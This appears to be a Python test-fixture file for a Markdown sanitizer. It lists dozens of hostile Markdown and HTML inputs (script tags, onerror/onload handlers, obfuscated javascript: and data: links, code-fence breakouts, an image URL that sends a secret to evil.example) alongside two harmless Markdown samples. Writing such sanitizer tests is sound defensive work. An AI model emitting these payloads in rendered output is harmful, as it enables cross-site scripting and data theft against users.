"""Markdown a malicious or confused model could write, and benign rich samples."""

HOSTILE_CASES: list[tuple[str, str]] = [
    # Raw HTML that runs script.
    ("script tag", "<script>alert(1)</script>"),
    ("script tag inline", "Hello <script>alert(document.cookie)</script> world"),
    ("script tag uppercase", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
    ("script split across lines", "<scr\nipt>alert(1)</scr\nipt>"),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("img onerror no quotes slash", "<img/src=x/onerror=alert(1)>"),
    ("iframe", '<iframe src="https://evil.example"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("style block", "<style>body{display:none}</style>"),
    ("style attribute", '<p style="position:fixed;inset:0">covered</p>'),
    ("anchor onclick", '<a href="#" onclick="alert(1)">click me</a>'),
    ("svg onload", "<svg onload=alert(1)><circle r=10 /></svg>"),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    ("details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary>"),
    ("body onload", "<body onload=alert(1)>"),
    ("html comment hiding script", "<!-- --><script>alert(1)</script><!-- -->"),
    ("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("form and input", '<form action="https://evil.example"><input name=p></form>'),
    ("button formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("textarea", "<textarea>x</textarea><script>alert(1)</script>"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.x">'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="https://evil.example/x.swf">'),
    ("base href", '<base href="https://evil.example/">'),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("math href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    (
        "math mglyph confusion",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    ("noscript confusion", '<noscript><p title="</noscript><img src=x onerror=1>">'),
    ("attribute with backticks", "<img src=`x` onerror=`alert(1)`>"),
    ("unclosed tag", '<a href="javascript:alert(1)" <b>bold'),
    ("nested tags", "<<script>script>alert(1)<</script>/script>"),
    ("unclosed attribute quote", '<div title="x>"><script>alert(1)</script>'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("xmp plaintext", "<xmp><script>alert(1)</script></xmp><plaintext>"),
    # Markdown links and images with dangerous URLs.
    ("javascript link", "[click](javascript:alert(1))"),
    ("mixed case javascript link", "[x](JaVaScRiPt:alert(1))"),
    ("javascript link leading spaces", "[x](  javascript:alert(1))"),
    ("javascript link in angle brackets", "[x](<javascript:alert(1)>)"),
    ("javascript link with tab", "[x](java\tscript:alert(1))"),
    ("javascript link with newline entity", "[x](java&#10;script:alert(1))"),
    ("entity encoded javascript link", "[x](&#106;avascript:alert(1))"),
    (
        "fully entity encoded javascript link",
        "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    ),
    (
        "data html link",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ),
    ("data html link plain", "[x](data:text/html,<script>alert(1)</script>)"),
    ("vbscript link", "[x](vbscript:msgbox(1))"),
    ("file link", "[x](file:///etc/passwd)"),
    ("javascript autolink", "<javascript:alert(1)>"),
    ("javascript reference link", "[click][evil]\n\n[evil]: javascript:alert(1)"),
    ("javascript reference link titled", '[c][e]\n\n[e]: javascript:alert(1) "t"'),
    ("javascript image", "![x](javascript:alert(1))"),
    ("image exfiltration", "![loading](https://evil.example/log?secret=hunter2)"),
    (
        "image with onerror-ish title",
        '![x](https://evil.example/x.png "onerror=alert(1) x=\\"")',
    ),
    ("image with quote breaking title", '![x" onerror="alert(1)](x.png)'),
    (
        "link title with quotes",
        '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    ),
    ("javascript reference image", "![x][img]\n\n[img]: javascript:alert(1)"),
    ("link text with html", "[<img src=x onerror=alert(1)>](https://ok.example)"),
    # Code that tries to break out of its block.
    (
        "fenced code breakout",
        "```\n</code></pre><script>alert(1)</script>\n```",
    ),
    (
        "fenced code breakout with language",
        "```python\n</code></pre></div><script>alert(1)</script>\n```",
    ),
    ("fenced code hostile language", '```"><script>alert(1)</script>\nx\n```'),
    (
        "fenced code hostile attributes",
        '```{.python onclick="alert(1)" pygments_formatter=img noclasses=true}\nx\n```',
    ),
    ("fenced code onerror language", '```{.x" onerror="alert(1)}\nx\n```'),
    ("inline code breakout", "`</code><script>alert(1)</script>`"),
    ("indented code breakout", "text\n\n    </pre><script>alert(1)</script>"),
    # Tables and lists that smuggle HTML.
    (
        "table cell html",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=1> |",
    ),
    ("list item html", "- <iframe src=https://evil.example></iframe>\n- two"),
    ("blockquote html", "> <svg/onload=alert(1)>"),
    ("heading html", "# <a href=javascript:alert(1)>title</a>"),
]

SAMPLE_RICH_MARKDOWN = """\
# Sorting in Python

Here is how to sort a list of **words** by *length*, with `sorted()`:

- Call `sorted()` with a `key`
- Pass `reverse=True` for longest first
- Read the [sorting how-to](https://docs.python.org/3/howto/sorting.html)

| Function | Returns | Stable |
|:---------|:-------:|-------:|
| `sorted` | new list | yes |
| `list.sort` | `None` | yes |

```python
def by_length(words: list[str]) -> list[str]:
    \"\"\"Shortest first.\"\"\"
    return sorted(words, key=len)


print(by_length(["pear", "fig", "banana"]))
```

> Both are stable, so equal lengths keep their order.
"""

# A long answer for live formatting: a heading, a table and two code blocks (one
# with a blank line inside, one a four-backtick fence holding a three-backtick one).
LONG_RICH_MARKDOWN = """\
## Reading a CSV file

Python ships a `csv` module; for most files it is all you need. Each row comes \
back as a list of strings, and the file must be opened with `newline=""`.

| Approach | Speed | Memory |
|:---------|:-----:|-------:|
| `csv.reader` | fast | low |
| `csv.DictReader` | fast | low |
| `pandas.read_csv` | fastest on big files | high |

```python
import csv

with open("data.csv", newline="") as f:
    for row in csv.reader(f):
        print(row)
```

To show a fence inside Markdown, use a longer fence around it:

````markdown
```python
print("inside")
```
````

That is all: pick the reader that fits the size of the file.
"""
